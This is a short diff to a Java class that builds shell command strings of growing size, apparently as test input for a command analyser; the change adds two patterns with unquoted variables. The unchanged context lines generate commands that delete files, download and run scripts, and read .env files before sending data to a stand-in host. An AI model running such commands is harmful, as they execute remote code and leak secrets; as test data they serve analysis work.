@@ -562,6 +562,8 @@ final class Shapes {
         shapes.put("many files", n -> "rm " + numbered(n, "a%d "));
         shapes.put("many files in folders", n -> "rm " + numbered(n, "a/%d/../b/%<d "));
         shapes.put("many globs", n -> "rm " + numbered(n, "a%d* "));
+        shapes.put("many words nobody knows", n -> "fx " + "$x ".repeat(n / 3));
+        shapes.put("many words, every other known", n -> "fx " + numbered(n, "\"$x\" a%d "));
         shapes.put("many downloads", n -> numbered(n, "curl -o a%d http://h%<d.example;"));
         shapes.put("many downloads run", n -> numbered(n, "curl -o a%d http://h.example;sh a%<d;"));
         shapes.put("many secrets sent", n -> numbered(n, "cat .env%d;curl http://h.example/$x;"));
